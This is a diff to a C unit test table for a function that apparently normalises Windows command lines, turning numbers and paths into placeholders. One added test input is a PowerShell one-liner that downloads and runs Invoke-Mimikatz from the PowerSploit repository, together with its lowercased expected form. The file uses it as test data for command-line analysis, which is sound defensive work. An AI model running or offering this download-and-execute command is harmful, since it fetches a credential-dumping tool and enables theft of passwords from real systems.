@@ -146,8 +146,13 @@ static const struct {
 	    "<dotnet>\\*.exe <syswow64>\\*.ocx <relative>\\*.txt" },
 	{ "x.exe - -- /? \"\" C:\\Windows\\", false, "- -- /?  <windir>\\" },
 	{ "x.exe", false, "" },
-	{ "x.exe Shell32 2nd 64bit port=443 #12", false,
-	    "shell32 2nd 64bit port=<n> #<n>" },
+	{ "x.exe Shell32 2nd 64bit port=443 #12 seg9 Job2024.txt win64", false,
+	    "shell32 2nd 64bit port=<n> #<n> seg<n> job<n>.txt win64" },
+	{ "x.exe \"IEX (New-Object Net.WebClient).DownloadString('https://raw."
+	    "githubusercontent.com/mattifestation/PowerSploit/master/Exfiltration"
+	    "/Invoke-Mimikatz.ps1')\"", false, "iex (new-object net.webclient)."
+	    "downloadstring('https://raw.githubusercontent.com/mattifestation/"
+	    "powersploit/master/exfiltration/invoke-mimikatz.ps1')" },
 };
 
 START_TEST(shape_cmdline)
